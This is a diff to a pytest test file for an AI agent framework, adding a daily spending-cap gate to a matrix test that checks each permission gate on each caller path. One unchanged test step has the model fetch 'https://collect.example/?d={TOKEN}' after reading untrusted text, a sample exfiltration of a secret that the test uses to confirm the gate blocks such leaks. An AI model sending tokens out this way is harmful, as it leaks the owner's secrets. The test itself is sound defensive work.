@@ -24,6 +24,8 @@ import pytest
 from augure.common.caller import Caller
 from augure.config.settings import load_config
 from augure.core.app import Core
+from augure.llm.budget import BudgetReached
+from augure.store.spend import ModelCall
 from augure.tools.base import Egress, RunContext, tool
 from augure.tools.result import MARKED, ToolResult
 from tests.cores import Cores
@@ -87,6 +89,7 @@ class Path_:
     chatting: bool = False  # an owner's chat: `Allow in this chat` applies
     model_reads: bool = True  # the probe's text reaches a model (not only the terminal)
     reads: bool = True  # a unit of work that reads (the CLI: the owner typed every call)
+    work: str | None = "chat"  # whom its model calls are billed to; None: it makes none
 
 
 def made(steps: list[Step]) -> list[Any]:
@@ -200,12 +203,12 @@ PATHS = {
     "batch": Path_("chat>batch", batch, chatting=True),
     "background": Path_("chat>background", background, chatting=True),
     "subagent": Path_("chat>task:scout", subagent, scout_toml, chatting=True),
-    "skill": Path_("job>skill:scout", skill),
-    "job": Path_("job", job, disabled_toml),
-    "heartbeat": Path_("heartbeat", heartbeat, disabled_toml),
+    "skill": Path_("job>skill:scout", skill, work="skill"),
+    "job": Path_("job", job, disabled_toml, work="job"),
+    "heartbeat": Path_("heartbeat", heartbeat, disabled_toml, work="heartbeat"),
     "report_turn": Path_("chat>background", report_turn, chatting=True),
-    "cli": Path_("cli", cli, disabled_toml, model_reads=False, reads=False),
-    "dashboard": Path_("dashboard>job", dashboard, disabled_toml),
+    "cli": Path_("cli", cli, disabled_toml, model_reads=False, reads=False, work=None),
+    "dashboard": Path_("dashboard>job", dashboard, disabled_toml, work="job"),
 }
 GATES = [
     "deny_rule",
@@ -215,6 +218,7 @@ GATES = [
     "untrusted",
     "in_chat",
     "after_untrusted",
+    "budget",
 ]
 
 
@@ -271,7 +275,12 @@ async def test_every_gate_holds_on_every_caller_path(
         toml += profile(first, "per_day = 0")
     elif gate == "in_chat":
         toml += profile(first, "requires_approval = true")
+    elif gate == "budget":
+        toml += "[budget]\ndaily_usd = 0.01\n"
     w = await world(toml)
+    if gate == "budget":  # the day's cap was reached before the path starts
+        day, month = w.core.budget.today()
+        await w.core.budget.ledger.record(ModelCall(day, month, "chat", "earlier", cost_usd=1.0))
     if gate == "deny_rule":
         await w.core.audit.add_rule("deny", "probe:x", "owner")
     if gate == "in_chat":
@@ -280,7 +289,10 @@ async def test_every_gate_holds_on_every_caller_path(
     if gate == "after_untrusted":  # a URL the model composed, after reading outside text
         steps.append(("fetcher", {"url": f"https://collect.example/?d={TOKEN}"}))
 
-    await path.drive(w, steps, scoped)
+    try:
+        await path.drive(w, steps, scoped)
+    except BudgetReached:  # work no one waits for is refused to whoever runs it
+        assert gate == "budget" and path.work in ("job", "skill", "heartbeat")
 
     made = await records(w.core)
     assert all(r["origin"] == path.chain for r in made), [r["origin"] for r in made]
@@ -308,6 +320,14 @@ async def test_every_gate_holds_on_every_caller_path(
         else:  # no owner in this chat: not offered, and nothing is allowed beyond the call
             assert [r.in_chat for r in w.owner.asked] == [False, False]
             assert decided == [("approved", "owner"), ("approved", "owner")]
+    elif gate == "budget":
+        report = await w.core.budget.report()
+        skipped = {name for name, t in report.today.by_origin.items() if t.skipped}
+        if path.work is None:  # the owner's own call at the terminal: no model is asked
+            assert probes_run == [path.chain] and skipped == set()
+        else:  # no model call, nothing run, and the refusal recorded for its kind of work
+            assert w.model.requests == [] and probes_run == [] and made == []
+            assert path.work in skipped
     elif gate == "after_untrusted":
         assert [path.chain] == probes_run
         fetches = list(reversed(await w.core.audit.listing(tool="fetcher")))
@@ -322,4 +342,4 @@ async def test_every_gate_holds_on_every_caller_path(
 
 
 def test_the_matrix_covers_every_caller_and_gate() -> None:
-    assert len(PATHS) >= 11 and len(GATES) >= 5
+    assert len(PATHS) >= 11 and len(GATES) >= 8
